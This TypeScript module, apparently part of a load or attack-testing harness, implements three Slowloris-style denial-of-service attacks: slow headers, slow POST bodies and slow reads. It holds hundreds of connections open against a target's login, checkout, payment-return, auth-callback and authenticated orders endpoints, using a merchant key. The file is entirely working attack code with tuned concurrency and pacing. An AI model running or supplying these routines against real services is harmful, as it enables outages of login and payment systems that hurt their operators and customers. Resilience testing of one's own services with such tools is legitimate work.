import { type Attack, crowd } from './attack'
import { connect, head, holdOn, trickle } from './wire'

const SOCKETS = 300

export const slowHeaders: Attack = {
  name: 'slow-headers',
  sends: `${SOCKETS} connections whose heads come a byte a second`,
  addresses: [1, 40],
  ms: { full: 20_000, quick: 4_000 },
  run: (field) =>
    crowd(field, { atOnce: SOCKETS, most: 3_000, pauseMs: 100 }, (n) =>
      trickle(field, n, head(field, n, 'GET', '/login'), 'X-Slow: aaaa\r\n'),
    ),
}

export const slowBody: Attack = {
  name: 'slow-body',
  sends: `${SOCKETS} connections whose bodies come a byte a second: forms, returns, the orders API with its key`,
  addresses: [1, 40],
  ms: { full: 20_000, quick: 4_000 },
  run: (field) => {
    const { url, merchantKey, orders } = field.target
    const form = { Origin: url, 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': '5000' }
    const heads = [
      (n: number) => head(field, n, 'POST', '/login', form),
      (n: number) => head(field, n, 'POST', `/checkout/${orders[n % orders.length]}`, form),
      (n: number) => head(field, n, 'POST', '/api/paynet/return/AAAAAAAAAAAAAAAAAAAAAA', form),
      (n: number) => head(field, n, 'POST', '/api/auth/callback/credentials', form),
      (n: number) => head(field, n, 'POST', '/api/orders', { Authorization: `Bearer ${merchantKey}`, 'Content-Length': '5000' }),
    ]
    return crowd(field, { atOnce: SOCKETS, most: 3_000, pauseMs: 100 }, (n) =>
      trickle(field, n, `${heads[n % heads.length]?.(n)}\r\n`, 'session_id='),
    )
  },
}

/** Requests again and again on the same connection and reads nothing, so that what was rendered waits in the app. */
export const slowRead: Attack = {
  name: 'slow-read',
  sends: '200 connections that ask for six pages or scripts each and read no byte',
  addresses: [1, 40],
  run: async (field) => {
    const paths = ['/', '/login', `/checkout/${field.target.orders[0]}`]
    await crowd(field, { atOnce: 200, most: 1_000, pauseMs: 1_000 }, async (n) => {
      const connection = await connect(field, n, 6)
      connection.socket.pause()
      connection.socket.write(`${head(field, n, 'GET', paths[n % paths.length] ?? '/')}\r\n`.repeat(6))
      await holdOn(field, connection, 10_000)
    })
  },
}
